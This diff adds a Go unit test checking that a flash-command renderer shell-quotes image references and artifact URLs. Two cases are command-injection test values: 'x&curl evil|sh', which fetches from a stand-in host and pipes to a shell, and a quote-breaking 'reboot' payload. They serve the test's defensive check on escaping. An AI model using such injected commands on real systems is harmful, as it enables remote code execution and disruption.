@@ -0,0 +1,45 @@
+package v1alpha1
+
+import "testing"
+
+func TestRenderFlashCmd(t *testing.T) {
+	tests := []struct {
+		name        string
+		template    string
+		imageURI    string
+		artifactURL string
+		want        string
+	}{
+		{
+			name:     "image reference",
+			template: DefaultFlashCmd,
+			imageURI: "quay.io/team-a/qm-minimal:v1",
+			want:     "j storage flash 'quay.io/team-a/qm-minimal:v1'",
+		},
+		{
+			name:        "artifact URL",
+			template:    "curl -fsSL {artifact_url} | j storage write-local-storage -",
+			artifactURL: "https://artifacts.example.com/qm.raw?token=a&b=c",
+			want:        "curl -fsSL 'https://artifacts.example.com/qm.raw?token=a&b=c' | j storage write-local-storage -",
+		},
+		{
+			name:     "shell metacharacters stay a single word",
+			template: DefaultFlashCmd,
+			imageURI: "x&curl evil|sh",
+			want:     "j storage flash 'x&curl evil|sh'",
+		},
+		{
+			name:     "single quotes are escaped",
+			template: DefaultFlashCmd,
+			imageURI: "x';reboot;'",
+			want:     `j storage flash 'x'\'';reboot;'\'''`,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := RenderFlashCmd(tt.template, tt.imageURI, tt.artifactURL); got != tt.want {
+				t.Errorf("RenderFlashCmd() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}